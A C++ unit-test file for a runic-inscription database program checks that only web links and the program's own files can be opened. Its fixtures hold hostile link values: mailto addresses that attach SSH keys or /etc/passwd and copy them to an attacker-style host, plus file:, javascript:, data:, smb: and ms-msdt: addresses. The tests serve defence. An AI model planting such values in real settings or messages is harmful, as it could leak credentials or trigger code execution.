// Every command that opens something goes through the opening rule: the web links, the
// bibliography and error-report addresses of a settings file, the address of new versions,
// the links in an inscription's information, and the files the program wrote.

#include <gtest/gtest.h>

#include <filesystem>

#include "app/address_finder.h"
#include "app/information_display.h"
#include "app/settings_file.h"
#include "app/text_saving.h"
#include "export/export_fixture.h"

namespace stavbas {
namespace {

namespace fs = std::filesystem;

class OpeningLinksTest : public ::testing::Test, public test::ExportFixture {
 protected:
  void SetUp() override {
    Stones({{"U 1 V",
             "a",
             {{'X', "6583052;1627548"},
              {'P',
               "Se mailto:fel@x.org?attach=/home/a/.ssh/id_rsa&cc=spy@evil.example, "
               "ftp://evil.example/a, www.runor.example och https://example.org/sten."}}}});
  }
  // Every box shown since the last look is a refusal naming the address (or its start).
  void ExpectRefusals(const std::vector<std::string>& addresses) {
    const std::vector<std::string> texts = host.BoxTexts();
    ASSERT_EQ(texts.size(), addresses.size()) << testing::PrintToString(texts);
    for (std::size_t i = 0; i < texts.size(); ++i) {
      EXPECT_EQ(host.boxes[i].kind, MsgKind::Warning);
      EXPECT_TRUE(texts[i].starts_with("Öppnar inte \"" + addresses[i]) &&
                  texts[i].ends_with("\": bara webbadresser (http, https), e-post med enbart ämne "
                                     "och text samt programmets egna filer (det som programmet "
                                     "har sparat eller exporterat, hjälpsidorna) öppnas."))
          << texts[i];
    }
    host.boxes.clear();
  }
};

TEST_F(OpeningLinksTest, HostileAddressesOfASettingsFileNeverReachTheDesktop) {
  dir.WriteText("stavbas.ini",
                "[Links]\n"
                "SvenskRunbibFind=javascript:alert(1)//\n"
                "NewVersion=file:///etc/passwd\n"
                "[Const]\n"
                "ErrorMail=fel@x.org?attach=/etc/passwd&cc=spy@evil.example&\n"
                "[Weblinks]\n"
                "Lösen=file:///etc/passwd\n"
                "Start=/usr/share/applications/evil.desktop\n"
                "Upp=../../home/a/.bashrc\n"
                "Dela=smb://evil.example/share\n"
                "Felsök=ms-msdt:/id PCWDiagnostic\n"
                "Data=data:text/html,<script>x</script>\n"
                "Runor=https://example.org/runor\n"
                "Webb=www.runor.example\n");
  settings = ReadSettings(dir / "stavbas.ini");
  ASSERT_EQ(settings.webLinks.size(), 8u);
  MakeApp();
  app->run.SignumRun("U 1");
  host.Clear();

  for (const WebLink& link : app->settings.webLinks) app->addresses.OpenWebLink(link.address);
  EXPECT_EQ(host.opened,
            (std::vector<std::string>{"https://example.org/runor", "http://www.runor.example"}));
  ExpectRefusals({"file:///etc/passwd", "/usr/share/applications/evil.desktop",
                  "../../home/a/.bashrc", "smb://evil.example/share", "ms-msdt:/id PCWDiagnostic",
                  "data:text/html,<script>x</script>"});

  app->addresses.OpenBibliography();
  app->addresses.OpenErrorReport();
  app->ui.OpenWithDesktop(app->settings.links.newVersion);  // the About box's link
  EXPECT_EQ(host.opened.size(), 2u);
  ExpectRefusals({"javascript:alert(1)//U%201%20V",
                  "mailto:fel@x.org?attach=/etc/passwd&cc=spy@evil.example&?subject=Fel%20i%20"
                  "Stavbasverket%20med%20U%201%20V&body=U%201%20V%20%0D%0Aa%0D%0A",
                  "file:///etc/passwd"});
}

TEST_F(OpeningLinksTest, APercentInTheErrorReportsAddressGivesTheMessageNotAFault) {
  settings.consts.errorMail = "%zz" + std::string(100000, 'a');
  MakeApp();
  app->run.SignumRun("U 1");
  host.Clear();
  EXPECT_NO_THROW(app->addresses.OpenErrorReport());
  EXPECT_TRUE(host.opened.empty());
  ASSERT_EQ(host.boxes.size(), 1u);
  EXPECT_TRUE(host.BoxTexts()[0].starts_with("Öppnar inte \"mailto:%zzaaa")) << host.BoxTexts()[0];
}

TEST_F(OpeningLinksTest, LinksInAnInscriptionsInformationOpenOnlyForTheWeb) {
  app->run.SignumRun("U 1");
  ShowInformation(*app, InformationKind::kInformation);
  const std::string text = window.Text();
  std::vector<std::string> found;
  for (const TextSpan& span : FindWebAddresses(text))
    found.push_back(LinkAddress(text.substr(span.start, span.length)));
  ASSERT_EQ(found.size(), 4u) << Text();
  host.Clear();
  for (const std::string& address : found) app->ui.OpenWithDesktop(address);
  EXPECT_EQ(host.opened,
            (std::vector<std::string>{"http://www.runor.example", "https://example.org/sten"}));
  ExpectRefusals(
      {"mailto:fel@x.org?attach=/home/a/.ssh/id_rsa&cc=spy@evil.example", "ftp://evil.example/a"});
}

TEST_F(OpeningLinksTest, FilesOpenOnlyOnceTheProgramHasWrittenThem) {
  const std::string saved = dir / "saved.TXT";
  const std::string kml = dir / "u.KML";
  dir.WriteBytes("u.KML", "an earlier file");
  EXPECT_FALSE(app->ui.OpenWithDesktop(kml));
  EXPECT_FALSE(app->ui.OpenWithDesktop(dir / "STAVBAS.INF"));
  ExpectRefusals({kml, dir / "STAVBAS.INF"});

  app->run.SignumRun("U 1");
  TextSaving saving(*app, window);
  saving.Choose(saved);
  ASSERT_TRUE(saving.Write());
  const auto plan = app->exports.Prepare(ExportKind::Kml);
  ASSERT_TRUE(plan);
  ExportAnswers answers;
  answers.formatCode = plan->formatDialog->standardFormat;
  answers.fileName = kml;
  answers.existing = ExistingFile::Replace;
  ASSERT_EQ(app->exports.Run(*plan, answers).outcome, ExportResult::Outcome::Written);
  // The export opened its file at once; the saved text opens when asked.
  EXPECT_TRUE(app->ui.OpenWithDesktop(saved));
  EXPECT_EQ(host.opened,
            (std::vector<std::string>{fs::canonical(kml).string(), fs::canonical(saved).string()}));
  EXPECT_TRUE(host.boxes.empty()) << host.BoxTexts()[0];
}

}  // namespace
}  // namespace stavbas
